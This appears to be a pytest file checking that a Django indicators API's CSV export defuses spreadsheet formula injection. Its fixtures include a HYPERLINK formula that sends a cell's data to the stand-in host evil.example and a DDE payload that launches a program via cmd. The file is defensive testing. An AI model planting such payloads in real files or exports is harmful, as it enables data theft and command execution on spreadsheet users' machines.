"""The observations CSV export cannot carry spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from sdg87.api.tests.fixtures import ApiRows
from sdg87.indicators.models import Observation

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
DDE = "=cmd|'/C calc'!A0"  # fits the 40-character unit column (PostgreSQL enforces it)


def test_csv_export_escapes_formula_text_but_not_negative_values(client, api_rows: ApiRows):
    """A unit and a note starting with '=' are written with a leading quote; a negative
    value stays a plain negative number."""
    obs = Observation.objects.filter(series=api_rows.series_b).get()
    Observation.objects.filter(pk=obs.pk).update(unit=DDE, note=HYPERLINK, value=-12.5)
    response = client.get("/api/v1/observations?series=TEST_B&release=all&format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["unit"] == "'" + DDE
    assert row["note"] == "'" + HYPERLINK
    assert row["value"] == "-12.5"
    assert row["series"] == "TEST_B" and row["year"] == "2020"


def test_csv_rows_reuse_label_cells_and_match_the_reference_row():
    """The export's fast row (label cells made safe once per series, place and release) is
    cell for cell the reference `_csv_row` of the observation, formula-like labels included."""
    from sdg87.api.observation_csv import _csv_row, _LabelCells
    from sdg87.api.observation_rows import ObservationRows

    related = ObservationRows()
    related.series = {1: ("SL_X", "8.7.1"), 2: ("=SUM(1)", None)}
    related.geographies = {7: {"code": "NPL", "iso3": "NPL", "m49": "524", "name": "@Nepal"}}
    source = {"code": "S", "title": "+T", "publisher": "P", "licence": "CC-BY-4.0"}
    release = {"code": "R", "title": "-R", "year": 2024, "citation": "C", "url": ""}
    related.releases = {3: (source, release)}  # type: ignore[dict-item]
    rows = [
        (10, 1, 7, 3, 2019, "_T", "Y5T17", None, -1.5, "PERCENT", "E", "=x"),
        (11, 2, 7, 3, 2020, "F", "_T", {"b": "2", "a": "1"}, 3.0, "NUMBER", "", ""),
    ]
    cells = _LabelCells(related)
    for row in rows:
        assert cells.row(row) == _csv_row(related.observation(row))
    assert cells.row(rows[0])[6] == "'@Nepal" and cells.row(rows[1])[1] == "'=SUM(1)"
